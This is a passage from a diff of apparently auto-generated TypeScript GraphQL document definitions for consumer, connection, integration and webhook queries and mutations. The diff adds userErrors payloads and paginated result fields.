:"Name","value":"connections"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}},{"kind":"Field","name":{"kind":"Name","value":"name"}},{"kind":"Field","name":{"kind":"Name","value":"integration"}},{"kind":"Field","name":{"kind":"Name","value":"integrationId"}},{"kind":"Field","name":{"kind":"Name","value":"api"}},{"kind":"Field","name":{"kind":"Name","value":"status"}},{"kind":"Field","name":{"kind":"Name","value":"data"}}]}}]}}]}}]} as unknown as DocumentNode<MgmtConsumerQuery, MgmtConsumerQueryVariables>;
-export const MgmtCreateConsumerDocument = {"__meta__":{"hash":"c044bdc7cc8295b49a5002f4a8ff124032588c6db09e36fa3490cf7735d3bf5c"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"mutation","name":{"kind":"Name","value":"MgmtCreateConsumer"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"input"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"CreateConsumerInput"}}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"createConsumer"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"input"},"value":{"kind":"Variable","name":{"kind":"Name","value":"input"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}},{"kind":"Field","name":{"kind":"Name","value":"name"}},{"kind":"Field","name":{"kind":"Name","value":"email"}},{"kind":"Field","name":{"kind":"Name","value":"internalReference"}},{"kind":"Field","name":{"kind":"Name","value":"redirectUrl"}}]}}]}}]} as unknown as DocumentNode<MgmtCreateConsumerMutation, MgmtCreateConsumerMutationVariables>;
-export const MgmtCreateConnectionDocument = {"__meta__":{"hash":"13519bde5815741790d37632aba727dd253be9ecde183b30e7ee65cd94e71cd9"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"mutation","name":{"kind":"Name","value":"MgmtCreateConnection"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"consumerId"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}},{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"input"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"CreateConnectionInput"}}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"createConnection"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"consumerId"},"value":{"kind":"Variable","name":{"kind":"Name","value":"consumerId"}}},{"kind":"Argument","name":{"kind":"Name","value":"input"},"value":{"kind":"Variable","name":{"kind":"Name","value":"input"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}},{"kind":"Field","name":{"kind":"Name","value":"name"}},{"kind":"Field","name":{"kind":"Name","value":"integration"}},{"kind":"Field","name":{"kind":"Name","value":"integrationId"}},{"kind":"Field","name":{"kind":"Name","value":"api"}},{"kind":"Field","name":{"kind":"Name","value":"status"}},{"kind":"Field","name":{"kind":"Name","value":"data"}}]}}]}}]} as unknown as DocumentNode<MgmtCreateConnectionMutation, MgmtCreateConnectionMutationVariables>;
+export const MgmtCreateConsumerDocument = {"__meta__":{"hash":"bbeff54b1d377ab97701b7f0ea3f395a841e299a0cb2580b980e69f28c09a469"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"mutation","name":{"kind":"Name","value":"MgmtCreateConsumer"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"input"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"CreateConsumerInput"}}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"createConsumer"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"input"},"value":{"kind":"Variable","name":{"kind":"Name","value":"input"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"consumer"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}},{"kind":"Field","name":{"kind":"Name","value":"name"}},{"kind":"Field","name":{"kind":"Name","value":"email"}},{"kind":"Field","name":{"kind":"Name","value":"internalReference"}},{"kind":"Field","name":{"kind":"Name","value":"redirectUrl"}}]}},{"kind":"Field","name":{"kind":"Name","value":"userErrors"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"code"}},{"kind":"Field","name":{"kind":"Name","value":"field"}},{"kind":"Field","name":{"kind":"Name","value":"message"}}]}}]}}]}}]} as unknown as DocumentNode<MgmtCreateConsumerMutation, MgmtCreateConsumerMutationVariables>;
+export const MgmtCreateConnectionDocument = {"__meta__":{"hash":"06cc48de012769898e83c0595dd979b59c5998af4a7d53925b191a39aaf11967"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"mutation","name":{"kind":"Name","value":"MgmtCreateConnection"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"input"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"CreateConnectionInput"}}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"createConnection"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"input"},"value":{"kind":"Variable","name":{"kind":"Name","value":"input"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"connection"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}},{"kind":"Field","name":{"kind":"Name","value":"name"}},{"kind":"Field","name":{"kind":"Name","value":"integration"}},{"kind":"Field","name":{"kind":"Name","value":"integrationId"}},{"kind":"Field","name":{"kind":"Name","value":"api"}},{"kind":"Field","name":{"kind":"Name","value":"status"}},{"kind":"Field","name":{"kind":"Name","value":"data"}}]}},{"kind":"Field","name":{"kind":"Name","value":"connectUrl"}},{"kind":"Field","name":{"kind":"Name","value":"userErrors"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"code"}},{"kind":"Field","name":{"kind":"Name","value":"field"}},{"kind":"Field","name":{"kind":"Name","value":"message"}}]}}]}}]}}]} as unknown as DocumentNode<MgmtCreateConnectionMutation, MgmtCreateConnectionMutationVariables>;
 export const MgmtIntegrationsDocument = {"__meta__":{"hash":"37927611ee0b71d24e3132697a812209d5a9e62cf43f056f4d5dbffb52162069"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"query","name":{"kind":"Name","value":"MgmtIntegrations"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"integrations"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"integrationId"}},{"kind":"Field","name":{"kind":"Name","value":"name"}},{"kind":"Field","name":{"kind":"Name","value":"api"}},{"kind":"Field","name":{"kind":"Name","value":"status"}},{"kind":"Field","name":{"kind":"Name","value":"credentials"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"name"}},{"kind":"Field","name":{"kind":"Name","value":"optional"}}]}},{"kind":"Field","name":{"kind":"Name","value":"operationsCoverage"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"operation"}},{"kind":"Field","name":{"kind":"Name","value":"status"}}]}}]}}]}}]} as unknown as DocumentNode<MgmtIntegrationsQuery, MgmtIntegrationsQueryVariables>;
-export const MgmtWebhooksDocument = {"__meta__":{"hash":"cf8af2913752a702d63e37e8dd69145bd2a89bf6850b2faec0761196b4ba1fc0"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"query","name":{"kind":"Name","value":"MgmtWebhooks"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"webhooks"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}},{"kind":"Field","name":{"kind":"Name","value":"accountId"}},{"kind":"Field","name":{"kind":"Name","value":"createdOn"}},{"kind":"Field","name":{"kind":"Name","value":"event"}},{"kind":"Field","name":{"kind":"Name","value":"url"}},{"kind":"Field","name":{"kind":"Name","value":"status"}},{"kind":"Field","name":{"kind":"Name","value":"createdBy"}},{"kind":"Field","name":{"kind":"Name","value":"integrationId"}}]}}]}}]} as unknown as DocumentNode<MgmtWebhooksQuery, MgmtWebhooksQueryVariables>;
+export const MgmtWebhooksDocument = {"__meta__":{"hash":"7589546e4576bd57016d998649f6a626a00cd1a3a6a614dedabdd5aed5740ea7"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"query","name":{"kind":"Name","value":"MgmtWebhooks"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"webhooks"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"totalCount"}},{"kind":"Field","name":{"kind":"Name","value":"nodes"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}},{"kind":"Field","name":{"kind":"Name","value":"accountId"}},{"kind":"Field","name":{"kind":"Name","value":"createdOn"}},{"kind":"Field","name":{"kind":"Name","value":"event"}},{"kind":"Field","name":{"kind":"Name","value":"url"}},{"kind":"Field","name":{"kind":"Name","value":"status"}},{"kind":"Field","name":{"kind":"Name","value":"createdBy"}},{"kind":"Field","name":{"kind":"Name","value":"integrationId"}}]}}]}}]}}]} as unknown as DocumentNode<MgmtWebhooksQuery, MgmtWebhooksQueryVariables>;
 export const MgmtWebhookDocument = {"__meta__":{"hash":"168ca6e0ecade972cb04f3584284915df5307c501dbbc27e33b69cb38d9eb053"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"query","name":{"kind":"Name","value":"MgmtWebhook"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"id"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"webhook"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"id"},"value":{"kind":"Variable","name":{"kind":"Name","value":"id"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}},{"kind":"Field","name":{"kind":"Name","value":"accountId"}},{"kind":"Field","name":{"kind":"Name","value":"createdOn"}},{"kind":"Field","name":{"kind":"Name","value":"event"}},{"kind":"Field","name":{"kind":"Name","value":"url"}},{"kind":"Field","name":{"kind":"Name","value":"status"}},{"kind":"Field","name":{"kind":"Name","value":"createdBy"}},{"kind":"Field","name":{"kind":"Name","value":"integrationId"}}]}}]}}]} as unknown as DocumentNode<MgmtWebhookQuery, MgmtWebhookQueryVariables>;
-export const MgmtWebhookLogsDocument = {"__meta__":{"hash":"ffec10d2c8ce0d95c20ff6c4150ec62e55f39406f2cb9442dc65d3bce63497ff"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"query","name":{"kind":"Name","value":"MgmtWebhookLogs"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"id"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"webhook"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"id"},"value":{"kind":"Variable","name":{"kind":"Name","value":"id"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}},{"kind":"Field","name":{"kind":"Name","value":"logs"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}},{"kind":"Field","name":{"kind":"Name","value":"webhookId"}},{"kind":"Field","name":{"kind":"Name","value":"event"}},{"kind":"Field","name":{"kind":"Name","value":"url"}},{"kind":"Field","name":{"kind":"Name","value":"accountId"}},{"kind":"Field","name":{"kind":"Name","value":"createdOn"}},{"kind":"Field","name":{"kind":"Name","value":"httpStatus"}},{"kind":"Field","name":{"kind":"Name","value":"integrationId"}}]}}]}}]}}]} as unknown as DocumentNode<MgmtWebhookLogsQuery, MgmtWebhookLogsQueryVariables>;
-export const MgmtWebhookEventTypesDocument = {"__meta__":{"hash":"c7126bfc6717048fbfddc62066421b5eef017507ffc51eddbcea78e1a42983f2"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"query","name":{"kind":"Name","value":"MgmtWebhookEventTypes"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"webhookEventTypes"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"event"}},{"kind":"Field","name":{"kind":"Name","value":"api"}}]}}]}}]} as unknown as DocumentNode<MgmtWebhookEventTypesQuery, MgmtWebhookEventTypesQueryVariables>;
-export const MgmtCreateWebhookDocument = {"__meta__":{"hash":"d2108f863e7ccdb60aec82e180c8de77e48155bc9dfd639c8d9616bfa4f6ea3b"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"mutation","name":{"kind":"Name","value":"MgmtCreateWebhook"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"input"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"CreateWebhookInput"}}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"createWebhook"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"input"},"value":{"kind":"Variable","name":{"kind":"Name","value":"input"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}},{"kind":"Field","name":{"kind":"Name","value":"accountId"}},{"kind":"Field","name":{"kind":"Name","value":"createdOn"}},{"kind":"Field","name":{"kind":"Name","value":"event"}},{"kind":"Field","name":{"kind":"Name","value":"url"}},{"kind":"Field","name":{"kind":"Name","value":"status"}},{"kind":"Field","name":{"kind":"Name","value":"createdBy"}},{"kind":"Field","name":{"kind":"Name","value":"integrationId"}}]}}]}}]} as unknown as DocumentNode<MgmtCreateWebhookMutation, MgmtCreateWebhookMutationVariables>;
-export const MgmtUpdateWebhookDocument = {"__meta__":{"hash":"ae1f588d389a4aab857a06bcfe6caec74be830acdad461f7510c16581f9e814d"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"mutation","name":{"kind":"Name","value":"MgmtUpdateWebhook"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"id"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}},{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"input"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"UpdateWebhookInput"}}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"updateWebhook"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"id"},"value":{"kind":"Variable","name":{"kind":"Name","value":"id"}}},{"kind":"Argument","name":{"kind":"Name","value":"input"},"value":{"kind":"Variable","name":{"kind":"Name","value":"input"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}},{"kind":"Field","name":{"kind":"Name","value":"accountId"}},{"kind":"Field","name":{"kind":"Name","value":"createdOn"}},{"kind":"Field","name":{"kind":"Name","value":"event"}},{"kind":"Field","name":{"kind":"Name","value":"url"}},{"kind":"Field","name":{"kind":"Name","value":"status"}},{"kind":"Field","name":{"kind":"Name","value":"createdBy"}},{"kind":"Field","name":{"kind":"Name","value":"integrationId"}}]}}]}}]} as unknown as DocumentNode<MgmtUpdateWebhookMutation, MgmtUpdateWebhookMutationVariables>;
-export const MgmtDeleteWebhookDocument = {"__meta__":{"hash":"7b436b82912333844c65de798c166d557265724ca994e4e7f051edd6d935ca33"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"mutation","name":{"kind":"Name","value":"MgmtDeleteWebhook"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"id"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"deleteWebhook"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"id"},"value":{"kind":"Variable","name":{"kind":"Name","value":"id"}}}]}]}}]} as unknown as DocumentNode<MgmtDeleteWebhookMutation, MgmtDeleteWebhookMutationVariables>;
-export const OpsConsumersDocument = {"__meta__":{"hash":"fcd57cc37164fc65ca227a9677f21878c558147dcc5cf031dbf552209743a8c7"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"query","name":{"kind":"Name","value":"OpsConsumers"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"search"}},"type":{"kind":"NamedType","name":{"kind":"Name","value":"String"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"consumers"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"search"},"value":{"kind":"Variable","name":{"kind":"Name","value":"search"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}}]}}]}}]} as unknown as DocumentNode<OpsConsumersQuery, OpsConsumersQueryVariables>;
-export const OpsUpdateWebhookDocument = {"__meta__":{"hash":"7a469fdbb1c3fef3dd0552fccb3f1db9332350ae5300e48058a3b40dee6aa30f"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"mutation","name":{"kind":"Name","value":"OpsUpdateWebhook"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"id"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}},{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"input"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"UpdateWebhookInput"}}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"updateWebhook"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"id"},"value":{"kind":"Variable","name":{"kind":"Name","value":"id"}}},{"kind":"Argument","name":{"kind":"Name","value":"input"},"value":{"kind":"Variable","name":{"kind":"Name","value":"input"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}}]}}]}}]} as unknown as DocumentNode<OpsUpdateWebhookMutation, OpsUpdateWebhookMutationVariables>;
+export const MgmtWebhookLogsDocument = {"__meta__":{"hash":"30e7eec1c4995aa6fca35576630ea4d0a1c4810c6dd118499d53efa42a9a14d4"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"query","name":{"kind":"Name","value":"MgmtWebhookLogs"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"id"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"webhook"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"id"},"value":{"kind":"Variable","name":{"kind":"Name","value":"id"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}},{"kind":"Field","name":{"kind":"Name","value":"logs"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"totalCount"}},{"kind":"Field","name":{"kind":"Name","value":"nodes"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}},{"kind":"Field","name":{"kind":"Name","value":"webhookId"}},{"kind":"Field","name":{"kind":"Name","value":"event"}},{"kind":"Field","name":{"kind":"Name","value":"url"}},{"kind":"Field","name":{"kind":"Name","value":"accountId"}},{"kind":"Field","name":{"kind":"Name","value":"createdOn"}},{"kind":"Field","name":{"kind":"Name","value":"httpStatus"}},{"kind":"Field","name":{"kind":"Name","value":"integrationId"}}]}}]}}]}}]}}]} as unknown as DocumentNode<MgmtWebhookLogsQuery, MgmtWebhookLogsQueryVariables>;
+export const MgmtWebhookEventTypesDocument = {"__meta__":{"hash":"253ad050e3d07beb92a3f326e2d127be2c4995682301a251e99a5a293c948601"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"query","name":{"kind":"Name","value":"MgmtWebhookEventTypes"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"webhookEventTypes"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"event"}},{"kind":"Field","name":{"kind":"Name","value":"name"}},{"kind":"Field","name":{"kind":"Name","value":"api"}}]}}]}}]} as unknown as DocumentNode<MgmtWebhookEventTypesQuery, MgmtWebhookEventTypesQueryVariables>;
+export const MgmtCreateWebhookDocument = {"__meta__":{"hash":"e30932a524c74625bbbe215541318f7d32b242bc47656b392e1bcbf2b276d90a"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"mutation","name":{"kind":"Name","value":"MgmtCreateWebhook"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"input"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"CreateWebhookInput"}}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"createWebhook"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"input"},"value":{"kind":"Variable","name":{"kind":"Name","value":"input"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"webhook"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}},{"kind":"Field","name":{"kind":"Name","value":"accountId"}},{"kind":"Field","name":{"kind":"Name","value":"createdOn"}},{"kind":"Field","name":{"kind":"Name","value":"event"}},{"kind":"Field","name":{"kind":"Name","value":"url"}},{"kind":"Field","name":{"kind":"Name","value":"status"}},{"kind":"Field","name":{"kind":"Name","value":"createdBy"}},{"kind":"Field","name":{"kind":"Name","value":"integrationId"}}]}},{"kind":"Field","name":{"kind":"Name","value":"userErrors"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"code"}},{"kind":"Field","name":{"kind":"Name","value":"field"}},{"kind":"Field","name":{"kind":"Name","value":"message"}}]}}]}}]}}]} as unknown as DocumentNode<MgmtCreateWebhookMutation, MgmtCreateWebhookMutationVariables>;
+export const MgmtUpdateWebhookDocument = {"__meta__":{"hash":"543f63e746a35b90842d4e794e507d83e6a9b0275d573726917bb2ec64580cd3"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"mutation","name":{"kind":"Name","value":"MgmtUpdateWebhook"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"input"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"UpdateWebhookInput"}}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"updateWebhook"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"input"},"value":{"kind":"Variable","name":{"kind":"Name","value":"input"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"webhook"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}},{"kind":"Field","name":{"kind":"Name","value":"accountId"}},{"kind":"Field","name":{"kind":"Name","value":"createdOn"}},{"kind":"Field","name":{"kind":"Name","value":"event"}},{"kind":"Field","name":{"kind":"Name","value":"url"}},{"kind":"Field","name":{"kind":"Name","value":"status"}},{"kind":"Field","name":{"kind":"Name","value":"createdBy"}},{"kind":"Field","name":{"kind":"Name","value":"integrationId"}}]}},{"kind":"Field","name":{"kind":"Name","value":"userErrors"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"code"}},{"kind":"Field","name":{"kind":"Name","value":"field"}},{"kind":"Field","name":{"kind":"Name","value":"message"}}]}}]}}]}}]} as unknown as DocumentNode<MgmtUpdateWebhookMutation, MgmtUpdateWebhookMutationVariables>;
+export const MgmtDeleteWebhookDocument = {"__meta__":{"hash":"d07892be8e0f53626c4029cd2ecb715a340126f3f3b60cfe81d7ff7f8059438d"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"mutation","name":{"kind":"Name","value":"MgmtDeleteWebhook"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"id"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"deleteWebhook"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"input"},"value":{"kind":"ObjectValue","fields":[{"kind":"ObjectField","name":{"kind":"Name","value":"id"},"value":{"kind":"Variable","name":{"kind":"Name","value":"id"}}}]}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"deletedId"}},{"kind":"Field","name":{"kind":"Name","value":"userErrors"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"code"}},{"kind":"Field","name":{"kind":"Name","value":"field"}},{"kind":"Field","name":{"kind":"Name","value":"message"}}]}}]}}]}}]} as unknown as DocumentNode<MgmtDeleteWebhookMutation, MgmtDeleteWebhookMutationVariables>;
+export const OpsConsumersDocument = {"__meta__":{"hash":"75c285e945f8e3ffdae911298be86fa5b379bb4112369f0c4e0ee7e157576602"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"query","name":{"kind":"Name","value":"OpsConsumers"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"search"}},"type":{"kind":"NamedType","name":{"kind":"Name","value":"String"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"consumers"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"search"},"value":{"kind":"Variable","name":{"kind":"Name","value":"search"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"nodes"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}}]}},{"kind":"Field","name":{"kind":"Name","value":"totalCount"}}]}}]}}]} as unknown as DocumentNode<OpsConsumersQuery, OpsConsumersQueryVariables>;
+export const OpsUpdateWebhookDocument = {"__meta__":{"hash":"bc235aa4b516f4acb41f95f4ab8ccb905a1ecd54cf3a793a67d6f74773c6a31d"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"mutation","name":{"kind":"Name","value":"OpsUpdateWebhook"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"input"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"UpdateWebhookInput"}}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"updateWebhook"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"input"},"value":{"kind":"Variable","name":{"kind":"Name","value":"input"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"webhook"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}}]}},{"kind":"Field","name":{"kind":"Name","value":"userErrors"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"code"}},{"kind":"Field","name":{"kind":"Name","value":"field"}},{"kind":"Field","name":{"kind":"Name","value":"message"}}]}}]}}]}}]} as unknown as DocumentNode<OpsUpdateWebhookMutation, OpsUpdateWebhookMutationVariables>;
 export const ServiceIntegrationsDocument = {"__meta__":{"hash":"0711fa7524fbb91768be6dcb433b8b5678365ec600450899961a76142c42a703"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"query","name":{"kind":"Name","value":"ServiceIntegrations"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"integrations"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"integrationId"}},{"kind":"Field","name":{"kind":"Name","value":"name"}}]}}]}}]} as unknown as DocumentNode<ServiceIntegrationsQuery, ServiceIntegrationsQueryVariables>;
